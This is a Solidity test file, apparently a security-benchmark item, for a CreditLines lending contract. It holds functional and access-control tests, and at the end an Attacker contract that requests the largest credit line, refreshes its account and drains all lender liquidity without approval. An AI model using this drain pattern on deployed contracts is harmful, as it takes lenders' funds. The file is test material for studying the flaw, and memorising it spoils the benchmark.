// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./CreditLines.sol";
import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-6e32fd7e-491a-44a7-b459-790407aa77d0

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Usd is ERC20 {
    constructor() ERC20("Usd", "USD") {
        _mint(msg.sender, 500_000e6);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ADMIN = address(0xAD);
    address private constant LENDER = address(0x1E);
    address private constant AGENT = address(0xEA);
    address private constant SHOP = address(0x5A);
    uint256 private constant START = 1_778_000_000;
    uint256 private constant LIQUIDITY = 101_000e6;

    Usd private usd;
    CreditLines private lines;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        usd = new Usd();
        lines = new CreditLines(usd, ADMIN, 150_000e6, 200);
        bytes32 lender = lines.LENDER_ROLE();
        bytes32 evaluator = lines.EVALUATOR_ROLE();
        vm.startPrank(ADMIN);
        lines.grantRole(lender, LENDER);
        lines.grantRole(evaluator, AGENT);
        vm.stopPrank();
        usd.transfer(LENDER, LIQUIDITY);
        usd.transfer(SHOP, 1_000e6);
        vm.startPrank(LENDER);
        usd.approve(address(lines), LIQUIDITY);
        lines.provide(LIQUIDITY);
        vm.stopPrank();
        vm.prank(SHOP);
        usd.approve(address(lines), type(uint256).max);
        mallory = new Attacker(lines, usd);
    }

    function _open(uint256 limit) private {
        vm.prank(SHOP);
        lines.requestCredit(limit, 30);
        vm.prank(AGENT);
        lines.approveCredit(SHOP, limit);
    }

    function test_Regular() public {
        vm.startPrank(SHOP);
        lines.requestCredit(40_000e6, 60);
        lines.requestCredit(50_000e6, 30);
        vm.stopPrank();
        vm.prank(AGENT);
        lines.approveCredit(SHOP, 20_000e6);
        vm.prank(SHOP);
        lines.drawdown(10_000e6);
        ICreditLines.Line memory line = lines.lineOf(SHOP);
        require(line.status == ICreditLines.Status.GoodStanding && line.dueAt == START + 30 days, "first period");
        require(usd.balanceOf(SHOP) == 11_000e6 && line.principal == 10_000e6, "drawn");

        // a bill, paid in time, and more principal
        vm.warp(START + 30 days);
        lines.refreshAccount(SHOP);
        require(lines.lineOf(SHOP).due == 200e6, "two per cent");
        vm.startPrank(SHOP);
        require(lines.makePayment(SHOP, 150e6) == 150e6 && lines.makePayment(SHOP, 50e6) == 50e6, "interest");
        lines.drawdown(10_000e6);
        vm.stopPrank();
        vm.warp(START + 60 days);
        lines.refreshAccount(SHOP);
        require(lines.lineOf(SHOP).due == 400e6 && lines.lineOf(SHOP).missed == 0, "second bill");

        // a bill that is not paid in time delays the line
        vm.warp(START + 90 days);
        lines.refreshAccount(SHOP);
        line = lines.lineOf(SHOP);
        require(line.status == ICreditLines.Status.Delayed && line.missed == 1 && line.due == 800e6, "delayed");
        vm.startPrank(SHOP);
        require(lines.makePayment(SHOP, 5_800e6) == 5_800e6, "interest and principal");
        vm.warp(START + 120 days);
        lines.drawdown(1_000e6);
        line = lines.lineOf(SHOP);
        require(line.status == ICreditLines.Status.GoodStanding && line.missed == 0 && line.principal == 16_000e6, "again");
        vm.stopPrank();
        usd.transfer(SHOP, 10_000e6);
        vm.startPrank(SHOP);
        require(lines.makePayment(SHOP, 1_000_000e6) == 16_300e6, "no more than is owed");
        lines.closeCredit();
        require(lines.lineOf(SHOP).status == ICreditLines.Status.Closed, "closed");
        lines.requestCredit(1e6, 90);
        vm.stopPrank();
        vm.prank(AGENT);
        lines.approveCredit(SHOP, 0);

        vm.prank(ADMIN);
        lines.setTerms(10e6, 1_000);
        require(lines.maxCreditLine() == 10e6 && lines.rateBps() == 1_000, "terms");
        bytes32 role = lines.LENDER_ROLE();
        vm.startPrank(LENDER);
        lines.withdraw(LIQUIDITY);
        lines.renounceRole(role, LENDER);
        vm.stopPrank();
        role = lines.EVALUATOR_ROLE();
        vm.prank(ADMIN);
        lines.revokeRole(role, AGENT);
        require(usd.balanceOf(LENDER) == LIQUIDITY && usd.balanceOf(address(lines)) == 1_300e6, "interest stays");
    }

    function _lacks(address who, bytes32 role) private pure returns (bytes memory) {
        return abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, who, role);
    }

    function test_RefusesStrangers() public {
        bytes32 lender = lines.LENDER_ROLE();
        bytes32 evaluator = lines.EVALUATOR_ROLE();
        vm.startPrank(SHOP);
        lines.requestCredit(1e6, 30);
        vm.expectRevert(_lacks(SHOP, 0));
        lines.setTerms(1, 1);
        vm.expectRevert(_lacks(SHOP, lender));
        lines.withdraw(1);
        vm.expectRevert(_lacks(SHOP, lender));
        lines.provide(1);
        vm.expectRevert(_lacks(SHOP, evaluator));
        lines.approveCredit(SHOP, 1);
        vm.stopPrank();
    }

    function test_RefusesTerms() public {
        vm.startPrank(ADMIN);
        vm.expectRevert("CreditLines: rate");
        lines.setTerms(1, 1_001);
        vm.stopPrank();
        vm.startPrank(SHOP);
        vm.expectRevert("CreditLines: limit");
        lines.requestCredit(0, 30);
        vm.expectRevert("CreditLines: limit");
        lines.requestCredit(150_001e6, 30);
        vm.expectRevert("CreditLines: period");
        lines.requestCredit(1, 0);
        vm.expectRevert("CreditLines: period");
        lines.requestCredit(1, 91);
        vm.stopPrank();
    }

    function test_RefusesLinesInOtherStates() public {
        vm.prank(AGENT);
        vm.expectRevert("CreditLines: nothing requested");
        lines.approveCredit(SHOP, 1e6);
        vm.prank(SHOP);
        vm.expectRevert("CreditLines: not in good standing");
        lines.drawdown(0);
        _open(5_000e6);
        vm.prank(AGENT);
        vm.expectRevert("CreditLines: nothing requested");
        lines.approveCredit(SHOP, 1e6);
        vm.startPrank(SHOP);
        vm.expectRevert("CreditLines: line in use");
        lines.requestCredit(1e6, 30);
        vm.expectRevert("CreditLines: above the limit");
        lines.drawdown(5_000e6 + 1);
        lines.drawdown(5_000e6);
        vm.expectRevert("CreditLines: not paid");
        lines.closeCredit();
        vm.warp(START + 30 days);
        lines.makePayment(SHOP, 100e6);
        lines.makePayment(SHOP, 5_000e6);
        vm.stopPrank();
    }

    function test_RefusesDelayedLines() public {
        _open(5_000e6);
        vm.startPrank(SHOP);
        lines.drawdown(1_000e6);
        vm.warp(START + 30 days);
        lines.refreshAccount(SHOP);
        lines.makePayment(SHOP, 19e6);
        vm.warp(START + 60 days);
        vm.expectRevert("CreditLines: not in good standing");
        lines.drawdown(1);
        lines.makePayment(SHOP, 1_021e6);
        lines.closeCredit();
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(mallory)) >= LIQUIDITY, "nothing gained");
    }

    function target() public view returns (address) {
        return address(lines);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Asks for the largest line, brings its bills up to date and draws everything.
contract Attacker {
    CreditLines private lines;
    IERC20 private usd;

    constructor(CreditLines lines_, IERC20 usd_) {
        lines = lines_;
        usd = usd_;
    }

    function run() external {
        lines.requestCredit(lines.maxCreditLine(), 90);
        lines.refreshAccount(address(this));
        lines.drawdown(usd.balanceOf(address(lines)));
    }
}
